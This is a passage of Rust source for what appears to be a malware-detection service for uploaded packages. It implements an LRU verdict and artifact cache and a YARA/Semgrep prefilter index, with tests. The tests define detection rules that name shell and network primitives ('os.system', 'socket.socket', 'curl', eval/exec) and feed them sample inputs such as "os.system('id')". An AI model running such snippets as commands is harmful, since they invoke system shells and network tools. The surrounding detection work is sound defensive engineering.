        assert!(units.iter().all(|u| u.code.len() <= MAX_UNIT_CHARS));
        // No content lost.
        let total: usize = units.iter().map(|u| u.code.lines().count()).sum();
        assert_eq!(total, src.lines().count());
    }

    #[test]
    fn empty_source_no_units() {
        assert!(split_basic_units("").is_empty());
        assert!(split_basic_units("\n\n\n").is_empty());
    }

    #[test]
    fn units_are_self_contained_blocks() {
        let src = "def a():\n    if x:\n        y()\n    return 1\n\ndef b():\n    pass\n";
        let units = split_basic_units(src);
        assert_eq!(units.len(), 2);
        // Nested `if` stays inside a's unit.
        assert!(units[0].code.contains("if x:"));
        assert!(units[0].code.contains("return 1"));
    }
}

//! Digest-keyed LRU caches: verdicts per request, artifacts per file.
//!
//! Registry traffic is heavy with re-uploads and unchanged file sets; the
//! paper's corpus itself deduplicates 3,200 packages to 1,633 unique
//! signatures. Keying finished verdicts by content digest lets the hub
//! serve every duplicate without touching a scanner, and keying per-file
//! [`crate::FileAnalysis`] artifacts by file digest lets a re-uploaded
//! package *version* re-parse only the files that changed.

use std::collections::{HashMap, VecDeque};
use std::sync::Arc;

use crate::artifact::FileAnalysis;
use crate::verdict::Verdict;

/// A raw sha256 content digest — half the size of its hex rendering, and
/// copying a key is a 32-byte memcpy instead of a heap allocation.
pub type DigestKey = [u8; 32];

/// A bounded least-recently-used map from content digest to a cheaply
/// clonable value.
///
/// Recency is tracked with a lazy queue: every access pushes a fresh
/// `(tick, key)` entry and stale entries are skipped during eviction, so
/// both `get` and `insert` are amortized O(1).
#[derive(Debug)]
pub struct LruCache<V: Clone> {
    capacity: usize,
    tick: u64,
    map: HashMap<DigestKey, (V, u64)>,
    recency: VecDeque<(u64, DigestKey)>,
}

/// The request-level verdict cache.
pub type VerdictCache = LruCache<Verdict>;

/// The per-file artifact cache; values are shared handles, so a hit
/// costs one `Arc` clone and cached artifacts are safely consumed by
/// many workers at once.
pub type ArtifactCache = LruCache<Arc<FileAnalysis>>;

impl<V: Clone> LruCache<V> {
    /// Creates a cache holding at most `capacity` values.
    pub fn new(capacity: usize) -> Self {
        LruCache {
            capacity,
            tick: 0,
            map: HashMap::new(),
            recency: VecDeque::new(),
        }
    }

    /// Number of cached values.
    pub fn len(&self) -> usize {
        self.map.len()
    }

    /// Iterates over the resident values in unspecified order, without
    /// touching recency. Powers point-in-time gauges over cache contents
    /// (the hub's `artifact_bytes_resident`).
    pub fn values(&self) -> impl Iterator<Item = &V> {
        self.map.values().map(|(value, _)| value)
    }

    /// Looks up `digest` without refreshing its recency. Sibling lookups
    /// on the splice path use this: reading an old version to diff
    /// against must not keep it alive over genuinely hot entries.
    pub fn peek(&self, digest: &DigestKey) -> Option<&V> {
        self.map.get(digest).map(|(value, _)| value)
    }

    /// Looks up `digest`, refreshing its recency on a hit.
    pub fn get(&mut self, digest: &DigestKey) -> Option<V> {
        self.tick += 1;
        let tick = self.tick;
        let value = {
            let (value, stamp) = self.map.get_mut(digest)?;
            *stamp = tick;
            value.clone()
        };
        self.recency.push_back((tick, *digest));
        self.maybe_compact();
        Some(value)
    }

    /// Stores `value` under `digest`, evicting the least recently used
    /// entry when full. Returns the digests evicted by this insert (empty
    /// in the common path), so a derived index — the retro-hunt posting
    /// store — can be kept in lockstep with cache residency.
    pub fn insert(&mut self, digest: DigestKey, value: V) -> Vec<DigestKey> {
        let mut evicted = Vec::new();
        if self.capacity == 0 {
            return evicted;
        }
        self.tick += 1;
        let tick = self.tick;
        self.recency.push_back((tick, digest));
        self.map.insert(digest, (value, tick));
        while self.map.len() > self.capacity {
            let Some((stamp, key)) = self.recency.pop_front() else {
                break;
            };
            // Stale queue entry: the key was touched again later.
            if self.map.get(&key).is_some_and(|(_, s)| *s == stamp) {
                self.map.remove(&key);
                evicted.push(key);
            }
        }
        self.maybe_compact();
        evicted
    }

    /// Drops stale recency entries once the queue outgrows the map 4×.
    fn maybe_compact(&mut self) {
        if self.recency.len() > 4 * self.map.len().max(8) {
            let map = &self.map;
            self.recency
                .retain(|(stamp, key)| map.get(key).is_some_and(|(_, s)| s == stamp));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(tag: &str) -> Verdict {
        Verdict {
            yara: vec![tag.to_owned()],
            ..Verdict::default()
        }
    }

    /// A recognizable test key: the name byte repeated.
    fn key(name: u8) -> DigestKey {
        [name; 32]
    }

    #[test]
    fn hit_and_miss() {
        let mut cache = VerdictCache::new(4);
        cache.insert(key(b'a'), verdict("ra"));
        assert_eq!(
            cache.get(&key(b'a')).map(|v| v.yara),
            Some(vec!["ra".to_owned()])
        );
        assert!(cache.get(&key(b'b')).is_none());
    }

    #[test]
    fn evicts_least_recently_used() {
        let mut cache = VerdictCache::new(2);
        cache.insert(key(b'a'), verdict("ra"));
        cache.insert(key(b'b'), verdict("rb"));
        // Touch `a` so `b` becomes the eviction victim.
        assert!(cache.get(&key(b'a')).is_some());
        cache.insert(key(b'c'), verdict("rc"));
        assert_eq!(cache.len(), 2);
        assert!(cache.get(&key(b'a')).is_some());
        assert!(cache.get(&key(b'b')).is_none());
        assert!(cache.get(&key(b'c')).is_some());
    }

    #[test]
    fn reinsert_refreshes() {
        let mut cache = VerdictCache::new(2);
        cache.insert(key(b'a'), verdict("r1"));
        cache.insert(key(b'b'), verdict("r2"));
        cache.insert(key(b'a'), verdict("r3"));
        cache.insert(key(b'c'), verdict("r4"));
        assert_eq!(
            cache.get(&key(b'a')).map(|v| v.yara),
            Some(vec!["r3".to_owned()])
        );
        assert!(cache.get(&key(b'b')).is_none());
    }

    #[test]
    fn zero_capacity_caches_nothing() {
        let mut cache = VerdictCache::new(0);
        cache.insert(key(b'a'), verdict("ra"));
        assert_eq!(cache.len(), 0);
        assert!(cache.get(&key(b'a')).is_none());
    }

    #[test]
    fn eviction_follows_full_access_order() {
        // Eviction must track *access* recency, not insertion order, even
        // through interleaved get/insert traffic.
        let mut cache = VerdictCache::new(3);
        cache.insert(key(b'a'), verdict("ra"));
        cache.insert(key(b'b'), verdict("rb"));
        cache.insert(key(b'c'), verdict("rc"));
        assert!(cache.get(&key(b'a')).is_some()); // order now b, c, a
        assert!(cache.get(&key(b'b')).is_some()); // order now c, a, b
        cache.insert(key(b'd'), verdict("rd")); // evicts c
        assert!(cache.get(&key(b'c')).is_none());
        assert!(cache.get(&key(b'a')).is_some());
        assert!(cache.get(&key(b'b')).is_some());
        assert!(cache.get(&key(b'd')).is_some());
        cache.insert(key(b'e'), verdict("re")); // evicts the oldest touch: a
        assert!(cache.get(&key(b'a')).is_none());
        assert_eq!(cache.len(), 3);
    }

    #[test]
    fn same_digest_reinsert_overwrites_not_duplicates() {
        // Two *different* verdicts under one digest model a digest
        // collision (or a rule-bundle change reusing a cache): the last
        // write must win and the map must hold a single entry.
        let mut cache = VerdictCache::new(3);
        cache.insert(key(b'x'), verdict("rx"));
        cache.insert(key(b'y'), verdict("ry"));
        cache.insert(key(b'D'), verdict("old"));
        cache.insert(key(b'D'), verdict("new"));
        assert_eq!(cache.len(), 3);
        assert_eq!(
            cache.get(&key(b'D')).map(|v| v.yara),
            Some(vec!["new".to_owned()])
        );
        // Under capacity pressure the true LRU (`x`) goes first...
        cache.insert(key(b'z'), verdict("rz"));
        assert!(cache.get(&key(b'x')).is_none());
        assert!(cache.get(&key(b'D')).is_some());
        // ...and the stale recency entry left by the overwritten first
        // insert must not evict the refreshed `D` out of turn: the next
        // victim is `y`, the oldest remaining touch.
        cache.insert(key(b'w'), verdict("rw"));
        assert!(cache.get(&key(b'y')).is_none());
        assert!(cache.get(&key(b'D')).is_some(), "overwritten entry lost");
        assert_eq!(cache.len(), 3);
    }

    #[test]
    fn capacity_one_thrash() {
        let mut cache = VerdictCache::new(1);
        for i in 0..100u8 {
            cache.insert(key(i), verdict("r"));
            assert_eq!(cache.len(), 1);
            assert!(cache.get(&key(i)).is_some());
            if i > 0 {
                assert!(cache.get(&key(i - 1)).is_none());
            }
        }
    }

    #[test]
    fn recency_queue_stays_bounded() {
        let mut cache = VerdictCache::new(8);
        for i in 0..8u8 {
            cache.insert(key(i), verdict("r"));
        }
        for _ in 0..10_000 {
            assert!(cache.get(&key(3)).is_some());
        }
        assert!(cache.recency.len() <= 4 * cache.map.len().max(8) + 1);
    }

    #[test]
    fn insert_overwrite_at_capacity_evicts_nothing() {
        // Overwriting a digest that is already resident does not grow the
        // map, so it must never push another *live* entry out — a derived
        // index (retro-hunt postings) trusts the eviction report.
        let mut cache = VerdictCache::new(3);
        cache.insert(key(b'a'), verdict("ra"));
        cache.insert(key(b'b'), verdict("rb"));
        cache.insert(key(b'c'), verdict("rc"));
        for round in 0..10 {
            let evicted = cache.insert(key(b'b'), verdict("rb2"));
            assert!(
                evicted.is_empty(),
                "overwrite evicted {evicted:?} (round {round})"
            );
            assert_eq!(cache.len(), 3);
        }
        assert!(cache.get(&key(b'a')).is_some());
        assert!(cache.get(&key(b'b')).is_some());
        assert!(cache.get(&key(b'c')).is_some());
    }

    #[test]
    fn insert_reports_exactly_the_evicted_digests() {
        let mut cache = VerdictCache::new(2);
        assert!(cache.insert(key(b'a'), verdict("ra")).is_empty());
        assert!(cache.insert(key(b'b'), verdict("rb")).is_empty());
        assert_eq!(cache.insert(key(b'c'), verdict("rc")), vec![key(b'a')]);
        // Zero capacity stores nothing and therefore evicts nothing.
        let mut none = VerdictCache::new(0);
        assert!(none.insert(key(b'z'), verdict("rz")).is_empty());
    }

    #[test]
    fn recency_queue_stays_bounded_under_zipfian_get_heavy_trace() {
        // A skewed, get-heavy trace is the adversarial input for the lazy
        // recency queue: hot keys re-stamp themselves constantly, piling
        // stale entries faster than eviction consumes them. The queue
        // must stay within the compaction bound (≤ 4× map + slack) at
        // every step, and residency must never exceed capacity.
        let mut cache = VerdictCache::new(16);
        for i in 0..16u8 {
            cache.insert(key(i), verdict("seed"));
        }
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut lcg = move || {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            state >> 33
        };
        for step in 0..50_000u32 {
            // ~Zipfian skew: key k is hit with weight ∝ 1/(k+1), by
            // resampling uniformly from a shrinking prefix.
            let k = (lcg() % (1 + lcg() % 24)) as u8;
            if step % 97 == 0 {
                // Occasional new digest keeps eviction in play.
                cache.insert(key(k.wrapping_add(100)), verdict("new"));
            } else {
                let _ = cache.get(&key(k));
            }
            assert!(
                cache.recency.len() <= 4 * cache.map.len().max(8) + 1,
                "queue {} exceeds bound at step {step} (map {})",
                cache.recency.len(),
                cache.map.len()
            );
            assert!(cache.map.len() <= 16, "residency exceeds capacity");
        }
    }

    #[test]
    fn values_and_peek_leave_recency_alone() {
        let mut cache = VerdictCache::new(2);
        cache.insert(key(b'a'), verdict("ra"));
        cache.insert(key(b'b'), verdict("rb"));
        // Peeking `a` and iterating values must NOT refresh `a`: the
        // next insert still evicts it as the least recently used.
        assert!(cache.peek(&key(b'a')).is_some());
        assert_eq!(cache.values().count(), 2);
        cache.insert(key(b'c'), verdict("rc"));
        assert!(cache.peek(&key(b'a')).is_none(), "peek refreshed recency");
        assert!(cache.peek(&key(b'b')).is_some());
        assert!(cache.peek(&key(b'z')).is_none());
    }

    #[test]
    fn real_request_digests_round_trip() {
        let mut cache = VerdictCache::new(4);
        let req = crate::ScanRequest::from_source("mod.py", "src = 1\n");
        cache.insert(req.digest(), verdict("hit"));
        assert_eq!(
            cache.get(&req.digest()).map(|v| v.yara),
            Some(vec!["hit".to_owned()])
        );
    }

    #[test]
    fn artifact_cache_shares_analyses_by_handle() {
        use crate::artifact::{ArtifactConfig, FileAnalysis};
        use crate::request::FileEntry;

        let mut cache = ArtifactCache::new(4);
        let entry = FileEntry::new("mod.py", b"import os\n".to_vec());
        let built = Arc::new(FileAnalysis::build(
            &entry,
            None,
            &ArtifactConfig::default(),
        ));
        cache.insert(entry.digest(), Arc::clone(&built));
        let hit = cache.get(&entry.digest()).expect("cached artifact");
        assert!(Arc::ptr_eq(&hit, &built), "hit must be the same analysis");
        // A changed file is a different digest — never a stale artifact.
        let changed = FileEntry::new("mod.py", b"import sys\n".to_vec());
        assert!(cache.get(&changed.digest()).is_none());
    }
}

//! The global literal prefilter index.
//!
//! One case-insensitive multi-literal matcher ([`MultiLiteral`]: a
//! Teddy-style SWAR prefilter for small/long atom sets, Aho–Corasick
//! otherwise) is built over the distinct plain-text atoms of every
//! compiled YARA rule plus the string atoms of every Semgrep pattern.
//! Matcher passes over each engine's own scan input (the package buffer
//! for YARA, the Python sources for Semgrep)
//! then route the package to exactly the rules whose atoms occur; rules
//! with an *exhaustive* atom set (see [`yara_engine::RuleAtoms`] and
//! [`semgrep_engine::SemgrepRule::literal_atoms`]) that did not hit are
//! provably non-matching and are skipped without condition evaluation.
//! Rules without such a guarantee are routed always.
//!
//! Case-insensitive matching over-approximates both case-sensitive and
//! `nocase` strings, so folding everything into one automaton can only
//! add spurious routes (a perf loss), never drop a true match.

use std::collections::HashMap;
use std::sync::Arc;

use semgrep_engine::CompiledSemgrepRules;
use textmatch::{MatchKind, MultiLiteral};
use yara_engine::CompiledRules;

use crate::artifact::FileAnalysis;

/// Which rules of each engine a package must be scanned with.
#[derive(Debug, Clone)]
pub struct Routing {
    /// Per YARA rule (declaration order): must this rule be evaluated?
    pub yara: Vec<bool>,
    /// Per Semgrep rule (file order): must this rule be evaluated?
    pub semgrep: Vec<bool>,
}

impl Routing {
    /// An empty routing, ready to be filled by
    /// [`PrefilterIndex::route_into`] (workers keep one per thread).
    pub fn empty() -> Self {
        Routing {
            yara: Vec::new(),
            semgrep: Vec::new(),
        }
    }

    /// Number of routed YARA rules.
    pub fn yara_routed(&self) -> usize {
        self.yara.iter().filter(|&&b| b).count()
    }

    /// Number of routed Semgrep rules.
    pub fn semgrep_routed(&self) -> usize {
        self.semgrep.iter().filter(|&&b| b).count()
    }

    /// Resizes to the given rule counts and clears every mark, reusing
    /// the allocations.
    fn reset(&mut self, yara_count: usize, semgrep_count: usize) {
        self.yara.clear();
        self.yara.resize(yara_count, false);
        self.semgrep.clear();
        self.semgrep.resize(semgrep_count, false);
    }
}

/// Reusable per-worker scratch for [`PrefilterIndex::route_into`]:
/// generation-stamped per-atom seen marks, so repeated routing passes
/// allocate nothing and never sweep the stamp array.
#[derive(Debug, Default)]
pub struct PrefilterScratch {
    generation: u64,
    seen: Vec<u64>,
}

impl PrefilterScratch {
    /// Creates an empty scratch (sized lazily on first use).
    pub fn new() -> Self {
        Self::default()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RuleId {
    Yara(usize),
    Semgrep(usize),
}

/// Which engine a rule in a [`RuleDelta`] belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum RuleEngine {
    /// A YARA rule (indexed by declaration order).
    Yara,
    /// A Semgrep rule (indexed by file order).
    Semgrep,
}

/// How a changed rule differs from the previous index.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DeltaKind {
    /// No rule with this name existed in the previous index.
    Added,
    /// The rule existed but its atom set (or its exhaustive flag)
    /// changed, so prior verdicts for it are stale.
    AtomsChanged,
}

/// One rule that needs a retro-hunt after a ruleset swap.
#[derive(Debug, Clone)]
pub struct ChangedRule {
    /// Which engine the rule belongs to.
    pub engine: RuleEngine,
    /// The rule's position in the *new* ruleset.
    pub index: usize,
    /// The rule's name (YARA rule name / Semgrep rule id).
    pub name: String,
    /// The rule's folded (ASCII-lowercase) prefilter atoms, sorted.
    /// Empty with `exhaustive == true` means the rule can never match;
    /// empty with `exhaustive == false` means no atom can gate it.
    pub atoms: Vec<String>,
    /// Whether the atom set is exhaustive (a candidate filter is sound).
    pub exhaustive: bool,
    /// Why the rule is in the delta.
    pub kind: DeltaKind,
}

/// The diff between two prefilter indexes (old → new), keyed by rule
/// name: exactly which rules' atom sets changed and which atoms the new
/// index interned that the old one had never seen.
#[derive(Debug, Clone, Default)]
pub struct RuleDelta {
    /// Rules that are new or whose atom sets changed, in new-ruleset
    /// order (YARA first, then Semgrep).
    pub changed: Vec<ChangedRule>,
    /// Folded atom texts present in the new index but not the old one.
    pub new_atoms: Vec<String>,
    /// Rules present in both indexes with identical atom sets.
    pub unchanged: usize,
    /// Rules present in the old index only.
    pub removed: usize,
}

/// Per-rule atom metadata retained for delta diffs.
#[derive(Debug, Clone)]
struct RuleAtomInfo {
    name: String,
    /// Sorted, deduplicated interned atom ids.
    atoms: Vec<u32>,
    exhaustive: bool,
}

/// The compiled prefilter over one rule bundle.
#[derive(Debug)]
pub struct PrefilterIndex {
    automaton: MultiLiteral,
    /// Automaton pattern index → rules gated on that atom.
    routes: Vec<Vec<RuleId>>,
    /// Rules that must always be evaluated (no exhaustive atom set).
    always: Vec<RuleId>,
    /// Interned folded atom texts, aligned with automaton pattern ids.
    atoms: Vec<String>,
    /// Folded atom text → interned id (the interner, kept for seeding).
    atom_ids: HashMap<String, usize>,
    /// Per-rule atom metadata, in ruleset order, for delta diffs.
    yara_info: Vec<RuleAtomInfo>,
    semgrep_info: Vec<RuleAtomInfo>,
    yara_count: usize,
    semgrep_count: usize,
    atom_count: usize,
}

impl PrefilterIndex {
    /// Builds the index over the given rule sets.
    pub fn build(yara: Option<&CompiledRules>, semgrep: Option<&CompiledSemgrepRules>) -> Self {
        Self::build_seeded(yara, semgrep, None)
    }

    /// Builds the index with the atom interner seeded from a prior
    /// index: atoms shared with `prior` keep their interned ids, new
    /// atoms extend the table. Stable interning is what lets an external
    /// posting store (the retro-hunt index) key on atom ids across
    /// ruleset deploys. Seeded-but-unused atoms stay in the automaton
    /// with empty routes, which can only cost prefilter time, never
    /// change a routing decision.
    pub fn build_seeded(
        yara: Option<&CompiledRules>,
        semgrep: Option<&CompiledSemgrepRules>,
        prior: Option<&PrefilterIndex>,
    ) -> Self {
        let mut atoms: Vec<String> = Vec::new();
        let mut atom_ids: HashMap<String, usize> = HashMap::new();
        if let Some(prior) = prior {
            atoms = prior.atoms.clone();
            atom_ids = prior.atom_ids.clone();
        }
        let mut routes: Vec<Vec<RuleId>> = vec![Vec::new(); atoms.len()];
        let mut always: Vec<RuleId> = Vec::new();
        let mut yara_info: Vec<RuleAtomInfo> = Vec::new();
        let mut semgrep_info: Vec<RuleAtomInfo> = Vec::new();

        let mut intern = |atom: &str, atoms: &mut Vec<String>, routes: &mut Vec<Vec<RuleId>>| {
            let folded = atom.to_ascii_lowercase();
            *atom_ids.entry(folded.clone()).or_insert_with(|| {
                atoms.push(folded);
                routes.push(Vec::new());
                atoms.len() - 1
            })
        };

        if let Some(rules) = yara {
            for (ri, rule) in rules.rules.iter().enumerate() {
                let ra = rule.literal_atoms();
                let mut ids: Vec<u32> = Vec::new();
                if ra.exhaustive {
                    // An exhaustive empty atom set means the rule can
                    // never match (e.g. `condition: false`): no routes.
                    for atom in &ra.atoms {
                        let id = intern(atom, &mut atoms, &mut routes);
                        routes[id].push(RuleId::Yara(ri));
                        ids.push(id as u32);
                    }
                } else {
                    always.push(RuleId::Yara(ri));
                }
                ids.sort_unstable();
                ids.dedup();
                yara_info.push(RuleAtomInfo {
                    name: rule.rule.name.clone(),
                    atoms: ids,
                    exhaustive: ra.exhaustive,
                });
            }
        }
        if let Some(rules) = semgrep {
            for (ri, rule) in rules.rules.iter().enumerate() {
                let mut ids: Vec<u32> = Vec::new();
                let mut exhaustive = false;
                match rule.literal_atoms() {
                    Some(rule_atoms) if !rule_atoms.is_empty() => {
                        exhaustive = true;
                        for atom in &rule_atoms {
                            let id = intern(atom, &mut atoms, &mut routes);
                            routes[id].push(RuleId::Semgrep(ri));
                            ids.push(id as u32);
                        }
                    }
                    _ => always.push(RuleId::Semgrep(ri)),
                }
                ids.sort_unstable();
                ids.dedup();
                semgrep_info.push(RuleAtomInfo {
                    name: rule.id.clone(),
                    atoms: ids,
                    exhaustive,
                });
            }
        }

        let atom_count = atoms.len();
        PrefilterIndex {
            automaton: MultiLiteral::new(&atoms, MatchKind::CaseInsensitive),
            routes,
            always,
            atoms,
            atom_ids,
            yara_info,
            semgrep_info,
            yara_count: yara.map_or(0, CompiledRules::len),
            semgrep_count: semgrep.map_or(0, CompiledSemgrepRules::len),
            atom_count,
        }
    }

    /// The interned id of a folded atom text, if present.
    pub fn atom_id(&self, folded: &str) -> Option<usize> {
        self.atom_ids.get(folded).copied()
    }

    /// The folded atom texts, in interned-id order.
    pub fn atom_texts(&self) -> &[String] {
        &self.atoms
    }

    /// Diffs this (old) index against a new one, by rule name.
    ///
    /// Atom sets are compared by *text*, so the diff is correct whether
    /// or not `new` was seeded from `self`; `ChangedRule::atoms` carries
    /// texts for the same reason — they are meaningful to any consumer.
    pub fn diff(&self, new: &PrefilterIndex) -> RuleDelta {
        let mut delta = RuleDelta::default();

        let texts = |index: &PrefilterIndex, info: &RuleAtomInfo| -> Vec<String> {
            let mut v: Vec<String> = info
                .atoms
                .iter()
                .map(|&id| index.atoms[id as usize].clone())
                .collect();
            v.sort_unstable();
            v
        };
        let mut old_by_name: HashMap<(RuleEngine, &str), (Vec<String>, bool)> = HashMap::new();
        for (engine, infos) in [
            (RuleEngine::Yara, &self.yara_info),
            (RuleEngine::Semgrep, &self.semgrep_info),
        ] {
            for info in infos.iter() {
                old_by_name.insert(
                    (engine, info.name.as_str()),
                    (texts(self, info), info.exhaustive),
                );
            }
        }

        let mut matched = 0usize;
        for (engine, infos) in [
            (RuleEngine::Yara, &new.yara_info),
            (RuleEngine::Semgrep, &new.semgrep_info),
        ] {
            for (ri, info) in infos.iter().enumerate() {
                let atoms = texts(new, info);
                let kind = match old_by_name.get(&(engine, info.name.as_str())) {
                    None => DeltaKind::Added,
                    Some((old_atoms, old_exhaustive)) => {
                        matched += 1;
                        if *old_atoms == atoms && *old_exhaustive == info.exhaustive {
                            delta.unchanged += 1;
                            continue;
                        }
                        DeltaKind::AtomsChanged
                    }
                };
                delta.changed.push(ChangedRule {
                    engine,
                    index: ri,
                    name: info.name.clone(),
                    atoms,
                    exhaustive: info.exhaustive,
                    kind,
                });
            }
        }
        delta.removed = old_by_name.len().saturating_sub(matched);
        delta.new_atoms = new
            .atoms
            .iter()
            .filter(|a| !self.atom_ids.contains_key(a.as_str()))
            .cloned()
            .collect();
        delta.new_atoms.sort_unstable();
        delta
    }

    /// Number of distinct atoms in the automaton.
    pub fn atom_count(&self) -> usize {
        self.atom_count
    }

    /// Number of rules that bypass the prefilter.
    pub fn always_on_count(&self) -> usize {
        self.always.len()
    }

    /// Routes one package: automaton passes mark the rules whose atoms
    /// occur, plus every always-on rule.
    ///
    /// YARA rules are routed from `buffer` (what the scanner scans);
    /// Semgrep rules are routed from `sources` (what the structural
    /// matcher parses). Routing each engine from its own scan input is
    /// what makes the skip sound for *any* request, including raw ones
    /// whose sources are not substrings of the buffer.
    pub fn route<S: AsRef<[u8]>>(&self, buffer: &[u8], sources: &[S]) -> Routing {
        let mut routing = Routing::empty();
        self.route_into(buffer, sources, &mut routing, &mut PrefilterScratch::new());
        routing
    }

    /// Like [`PrefilterIndex::route`], reusing a caller-owned routing and
    /// scratch — the zero-allocation entry point the hub workers use.
    pub fn route_into<S: AsRef<[u8]>>(
        &self,
        buffer: &[u8],
        sources: &[S],
        routing: &mut Routing,
        scratch: &mut PrefilterScratch,
    ) {
        routing.reset(self.yara_count, self.semgrep_count);
        for id in &self.always {
            routing.mark(*id);
        }
        self.mark_hits(buffer, routing, true, false, scratch);
        for source in sources {
            self.mark_hits(source.as_ref(), routing, false, true, scratch);
        }
    }

    /// Routes one package from its per-file analysis artifacts — the
    /// scan-path entry point since the parse-once refactor.
    ///
    /// YARA rules are routed from every file's raw bytes **and every
    /// decoded layer** (an atom hidden behind base64 still routes its
    /// rule, or layered scanning could never fire); Semgrep rules are
    /// routed from the Python files' bytes (what the structural matcher
    /// parses). Routing each engine from its own scan input keeps the
    /// skip sound for any request shape.
    pub fn route_artifacts_into(
        &self,
        artifacts: &[Arc<FileAnalysis>],
        routing: &mut Routing,
        scratch: &mut PrefilterScratch,
    ) {
        routing.reset(self.yara_count, self.semgrep_count);
        for id in &self.always {
            routing.mark(*id);
        }
        for artifact in artifacts {
            self.mark_hits(&artifact.bytes, routing, true, artifact.is_python, scratch);
            for layer in &artifact.layers {
                self.mark_hits(&layer.data, routing, true, false, scratch);
            }
        }
    }

    /// One streaming automaton pass over `text`, marking hit atoms'
    /// routes for the selected engine(s). The pass stops early once every
    /// atom has been seen — at that point every route is already marked
    /// and the rest of the text cannot change the routing.
    fn mark_hits(
        &self,
        text: &[u8],
        routing: &mut Routing,
        mark_yara: bool,
        mark_semgrep: bool,
        scratch: &mut PrefilterScratch,
    ) {
        if self.atom_count == 0 {
            return;
        }
        scratch.generation += 1;
        if scratch.seen.len() < self.routes.len() {
            scratch.seen.resize(self.routes.len(), 0);
        }
        let mut unseen = self.atom_count;
        self.automaton.for_each_match(text, |m| {
            if scratch.seen[m.pattern] == scratch.generation {
                return true;
            }
            scratch.seen[m.pattern] = scratch.generation;
            unseen -= 1;
            for id in &self.routes[m.pattern] {
                match id {
                    RuleId::Yara(_) if mark_yara => routing.mark(*id),
                    RuleId::Semgrep(_) if mark_semgrep => routing.mark(*id),
                    _ => {}
                }
            }
            unseen > 0
        });
    }

    /// A routing that evaluates everything (prefilter disabled).
    pub fn route_all(&self) -> Routing {
        let mut routing = Routing::empty();
        self.route_all_into(&mut routing);
        routing
    }

    /// Like [`PrefilterIndex::route_all`], reusing a caller-owned routing.
    pub fn route_all_into(&self, routing: &mut Routing) {
        routing.yara.clear();
        routing.yara.resize(self.yara_count, true);
        routing.semgrep.clear();
        routing.semgrep.resize(self.semgrep_count, true);
    }
}

impl Routing {
    fn mark(&mut self, id: RuleId) {
        match id {
            RuleId::Yara(i) => self.yara[i] = true,
            RuleId::Semgrep(i) => self.semgrep[i] = true,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const NO_SOURCES: &[&str] = &[];

    fn yara(src: &str) -> CompiledRules {
        yara_engine::compile(src).expect("yara compiles")
    }

    fn semgrep(src: &str) -> CompiledSemgrepRules {
        semgrep_engine::compile(src).expect("semgrep compiles")
    }

    #[test]
    fn routes_only_rules_whose_atoms_occur() {
        let rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "socket.socket" condition: $x }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        let routing = index.route(b"import os\nos.system('id')\n", NO_SOURCES);
        assert_eq!(routing.yara, vec![true, false]);
        let routing = index.route(b"nothing suspicious", NO_SOURCES);
        assert_eq!(routing.yara_routed(), 0);
    }

    #[test]
    fn case_insensitive_routing_over_approximates() {
        let rules = yara("rule a { strings: $x = \"OS.System\" condition: $x }");
        let index = PrefilterIndex::build(Some(&rules), None);
        // The case-sensitive rule cannot match, but the prefilter must
        // still route it (only the scanner decides the final verdict).
        assert_eq!(index.route(b"os.system", NO_SOURCES).yara, vec![true]);
    }

    #[test]
    fn non_exhaustive_rules_are_always_routed() {
        let rules = yara("rule re { strings: $r = /a+b/ condition: $r }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.always_on_count(), 1);
        assert_eq!(index.route(b"zzz", NO_SOURCES).yara, vec![true]);
    }

    #[test]
    fn never_matching_rule_is_never_routed() {
        let rules = yara("rule dead { condition: false }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.always_on_count(), 0);
        assert_eq!(index.route(b"anything", NO_SOURCES).yara, vec![false]);
    }

    #[test]
    fn semgrep_any_of_semantics() {
        let rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern-either:\n      - pattern: eval($X)\n      - pattern: exec($X)\n",
        );
        let index = PrefilterIndex::build(None, Some(&rules));
        assert_eq!(index.route(b"", &["exec(code)"]).semgrep, vec![true]);
        assert_eq!(index.route(b"", &["eval(code)"]).semgrep, vec![true]);
        assert_eq!(index.route(b"", &["print(code)"]).semgrep, vec![false]);
    }

    #[test]
    fn engines_route_from_their_own_scan_input() {
        let yara_rules = yara("rule a { strings: $x = \"os.system\" condition: $x }");
        let semgrep_rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
        );
        let index = PrefilterIndex::build(Some(&yara_rules), Some(&semgrep_rules));
        // Atom only in a source: Semgrep must be routed even though the
        // buffer (what YARA scans) is clean — raw requests make no
        // sources-are-a-substring-of-buffer promise.
        let routing = index.route(b"clean buffer", &["os.system('x')"]);
        assert_eq!(routing.yara, vec![false]);
        assert_eq!(routing.semgrep, vec![true]);
        // Atom only in the buffer: YARA routed, Semgrep not.
        let routing = index.route(b"os.system('x')", &["clean source"]);
        assert_eq!(routing.yara, vec![true]);
        assert_eq!(routing.semgrep, vec![false]);
    }

    #[test]
    fn atoms_are_deduplicated_across_rules() {
        let rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "os.system" $y = "curl" condition: all of them }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.atom_count(), 2);
        // `curl` alone routes rule b (any-of semantics), which the
        // scanner then rejects — routing is a superset of matching.
        let routing = index.route(b"curl http://x", NO_SOURCES);
        assert_eq!(routing.yara, vec![false, true]);
    }

    #[test]
    fn empty_rule_sets() {
        let index = PrefilterIndex::build(None, None);
        let routing = index.route(b"data", NO_SOURCES);
        assert!(routing.yara.is_empty() && routing.semgrep.is_empty());
    }

    #[test]
    fn empty_buffer_routes_only_always_on_rules() {
        // An empty upload must not route atom-gated rules, but always-on
        // rules (regex-only, filesize conditions) still run.
        let rules = yara(
            r#"
rule atom { strings: $a = "os.system" condition: $a }
rule rx { strings: $r = /ab+c/ condition: $r }
